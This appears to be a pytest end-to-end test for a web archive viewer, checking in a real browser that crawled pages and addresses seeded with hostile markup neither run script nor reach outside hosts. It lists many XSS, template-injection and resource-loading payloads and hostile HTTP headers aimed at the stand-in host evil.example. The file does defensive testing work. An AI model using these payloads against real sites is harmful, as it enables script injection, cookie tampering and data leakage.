"""Hostile titles, texts, addresses, headers and pages: a browser opens every page of the room."""

import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import pytest

import luutru
from flows.extraction.corpus_form import corpus_form
from storage.archive import open_archive
from storage.corpus.publish import publish
from storage.runs.held_texts import release
from storage.vocabulary import ReleasedBy
from tests.end_to_end.hostile_input.hostile_site import ROBOTS, Routes, answer, played, site_folder
from tests.end_to_end.nights import pipeline
from tests.end_to_end.processes import wait_until
from tests.flows.browser import Browser, asked_by_pages, chromium
from tests.flows.local_servers import refusing_proxy
from tests.web.room import Room, running_room

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]

SITE = "bao"
SEARCH_PARTS = ("site", "section", "since", "until", "in", "attachments", "folded", "after")
TITLES = (
    "<script>pwned=1</script>",
    "<img src=//evil.example/t onerror=pwned=2>",
    "\"'><svg onload=pwned=3>",
    "</title></textarea><iframe src=//evil.example/f></iframe>",
    "{{7*7}}{%25 for %25}${7*7}",
    "javascript:pwned=4",
    "\u202egnurt\u202c ]]> &lt;b&gt;",
)
ACTING = """<link rel=stylesheet href=//evil.example/a><link rel=preconnect href=//evil.example>
<LINK/rel=prefetch href=//evil.example/b><meta http-equiv=refresh content='0;url=//evil.example/c'>
<base href=//evil.example/d/ target=_top>
<script>pwned=5;parent.pwned=6;fetch('//evil.example/e')</script><script src=//evil.example/g></script>
<style>@import '//evil.example/h'; body {background: url(//evil.example/i)}
@font-face {font-family: x; src: url(//evil.example/j)}</style>
<img src=//evil.example/k srcset='//evil.example/l 2x' onerror=pwned=7>
<iframe src=//evil.example/m srcdoc='<script>top.pwned=8</script>'></iframe>
<object data=//evil.example/n></object><embed src=//evil.example/o>
<video poster=//evil.example/p src=//evil.example/q autoplay></video><form action=//evil.example/r id=f>
<input name=x autofocus onfocus=pwned=9></form><svg><image href=//evil.example/s /></svg>
<body onload=pwned=10 background=//evil.example/t>
<a href='javascript:pwned=11' target=_top ping=//evil.example/u>x</a><audio src=//evil.example/v></audio>
<input type=image src=//evil.example/w><table background=//evil.example/x></table>"""
HEADERS = (
    b"Link: <http://evil.example/y>; rel=preload; as=script",
    b"Refresh: 0; url=http://evil.example/z",
    b"Content-Security-Policy: default-src *",
    b"Set-Cookie: room=evil; Path=/",
    b"X-Odd: caf\xe9 <script>pwned=12</script>",
    b"Access-Control-Allow-Origin: *",
)


def hostile_story(title: str) -> bytes:
    shown = title.replace("&", "&amp;").replace("<", "&lt;")
    text = "".join(f"<p>Đoạn {part}: {shown} phường tổng kết công tác vệ sinh môi trường.</p>" for part in range(4))
    return (
        f"<html><head><title>{shown}</title>{ACTING}</head><body><article class=story><h1>{shown}</h1>"
        f"<div class=date>12/11/2026 08:30</div><div class=content>{text}</div></article>{ACTING}</body></html>"
    ).encode()


def listing(names: Sequence[str]) -> bytes:
    """Links without words: a list whose words contradict the titles would put the pages on hold."""
    return "".join(f'<h3><a href="{name}"><img alt=""></a></h3>' for name in names).encode()


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    names = [f"/tin-{number}.html" for number in range(len(TITLES))]
    titles = [*TITLES, TITLES[0] + "x"]
    odd = "/tin-%22%3E%3Cscript%3Epwned=13%3C%2Fscript%3E.html"
    routes: Routes = {"/robots.txt": answer(ROBOTS), "/moi": answer(listing([*names, odd]))}
    for name, title in zip([*names, odd], titles, strict=True):
        routes[name] = answer(hostile_story(title), *HEADERS)
    with played(routes) as (origin, _):
        run_id = pipeline(folder / "data", origin, sites=site_folder(folder / "sites")).night(SITE).run_id
    # The second reader cannot read this markup, which puts the texts on hold: a person releases them.
    with open_archive(folder / "data") as archive:
        release(archive, SITE, run_id, ReleasedBy.HAND)
        publish(archive, corpus_form)
    hostile_draft(folder / "data" / "drafts" / SITE)
    return folder


def hostile_draft(folder: Path) -> None:
    """A draft of a layout whose every word is hostile."""
    folder.mkdir(parents=True)
    checks = [{"name": title, "measured": title, "passed": False} for title in TITLES]
    evidence = {"gate": checks, "drafted_at": TITLES[1], "passes": False, "rules": TITLES[0]}
    (folder / "evidence.json").write_text(json.dumps(evidence), encoding="utf-8")
    (folder / f"{SITE}.toml").write_text("</pre>" + "\n".join(TITLES), encoding="utf-8")


def addresses_with(words: str) -> list[str]:
    """Each address that takes words, with these words in each of its parts."""
    said = quote(words, safe="")
    of_search = [f"/search?q={said}", *(f"/search?q=phường&{name}={said}" for name in SEARCH_PARTS)]
    of_site = [f"/site/bao?{name}={said}" for name in ("day", "run", "after")]
    of_site += [f"/site/bao?run=1&{name}={said}" for name in ("outcome", "reason", "requests", "after")]
    of_pages = [f"/page?url={said}", f"/page/on?url={said}&day=2026-11-12", f"/page/on?url=0&day={said}"]
    of_pages += [f"/page?url=0&{name}={said}" for name in ("a", "b", "form")]
    others = [f"/{said}", f"/site/{said}", f"/document/{said}", f"/web/{said}", f"/web/2026id_/{said}"]
    others += [f"/timemap/{said}", f"/timemap/link/{said}", f"/timemap/json/{said}"]
    others += [f"/feed.atom?site={said}", f"/feed?after={said}", f"/?lang={said}"]
    return [*of_search, *of_site, *of_pages, *others]


@dataclass(frozen=True, slots=True)
class Visit:
    room: Room
    browser: Browser
    outside: list[str]


@pytest.fixture(scope="module")
def visit(archive: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Visit]:
    folder = tmp_path_factory.mktemp("browser")
    with (
        refusing_proxy() as (proxy, asked),
        running_room(archive / "data", folder, SITES=str(archive / "sites")) as room,
        chromium(folder, proxy) as browser,
    ):
        yield Visit(room, browser, asked)


def settle(browser: Browser) -> None:
    """Waits until the page and everything that it requests by itself are loaded."""
    wait_until(lambda: bool(browser.evaluate("document.readyState === 'complete'")), "the page is loaded")


def test_no_hostile_script_runs_and_no_request_leaves(visit: Visit, archive: Path) -> None:
    with luutru.open(archive / "data", sites=archive / "sites") as corpus:
        documents = list(corpus.documents())
    assert len(documents) == len(TITLES) + 1
    run = "/site/bao?run=1&outcome="
    addresses = ["/", "/site/bao", f"{run}new", f"{run}refused", "/site/bao?run=1&requests=all"]
    addresses += [
        "/site/bao?day=2026-11-12",
        "/search?q=phường",
        '/search?q="pwned"&folded=1',
        "/search?q=pwned&in=title",
    ]
    for one in documents:
        stamp = one.captured.strftime("%Y%m%d%H%M%S") if one.captured else ""
        addresses += [f"/document/{one.ordinal}", f"/page?url={one.ordinal}", f"/page?url={one.url}"]
        addresses += [f"/web/{stamp}{form}/{one.url}" for form in ("", "if_", "id_", "hd_")]
        addresses += [f"/timemap/link/{one.url}", f"/timemap/json/{one.url}"]
    addresses += [f"/{title}" for title in TITLES] + [f"/page?url={title}" for title in TITLES]
    walk(visit, addresses)


@pytest.mark.parametrize("words", [TITLES[0], TITLES[2]])
def test_hostile_words_in_an_address_do_nothing(visit: Visit, words: str) -> None:
    walk(visit, addresses_with(words))


def test_hostile_words_are_given_to_every_address_that_takes_words(visit: Visit) -> None:
    walked = [address.partition("?") for address in addresses_with("x")]
    for path, described in visit.room.json("/openapi.json")["paths"].items():
        start = path.partition("{")[0]
        found = [asked for place, _, asked in walked if (place.startswith(start) if "{" in path else place == path)]
        assert found, path
        for one in described["get"]["parameters"]:
            assert one["in"] != "query" or any(f"{one['name']}=" in asked for asked in found), (path, one["name"])


def walk(visit: Visit, addresses: Sequence[str]) -> None:
    for address in addresses:
        visit.browser.go(f"{visit.room.address}{address}")
        settle(visit.browser)
        assert visit.browser.evaluate("typeof pwned") == "undefined", address
        assert visit.browser.evaluate("location.origin") in (visit.room.address, "null"), address
        assert visit.browser.evaluate("window.origin === 'null' ? '' : document.cookie") == "", address
    assert asked_by_pages(visit.outside) == []


def test_a_hit_and_a_draft_show_hostile_words_as_words(visit: Visit) -> None:
    visit.browser.go(f"{visit.room.address}/search?q=pwned&in=title")
    settle(visit.browser)
    assert "<script>pwned=1</script>" in str(visit.browser.evaluate("document.querySelector('main').textContent"))
    visit.browser.go(f"{visit.room.address}/site/bao")
    settle(visit.browser)
    shown = str(visit.browser.evaluate("document.querySelector('#draft').parentElement.textContent"))
    assert all(title in shown for title in TITLES)


def test_hostile_words_are_shown_as_words(visit: Visit, archive: Path) -> None:
    with luutru.open(archive / "data", sites=archive / "sites") as corpus:
        titles = {one.ordinal: one.title or "" for one in corpus.documents()}
    assert len(titles) == len(TITLES) + 1
    for ordinal, title in titles.items():
        visit.browser.go(f"{visit.room.address}/document/{ordinal}")
        visit.browser.wait_for("Provenance")
        assert visit.browser.evaluate("document.querySelector('h1').textContent") == title
    feed = visit.room.ask("/feed.atom").text
    assert "<script>" not in feed
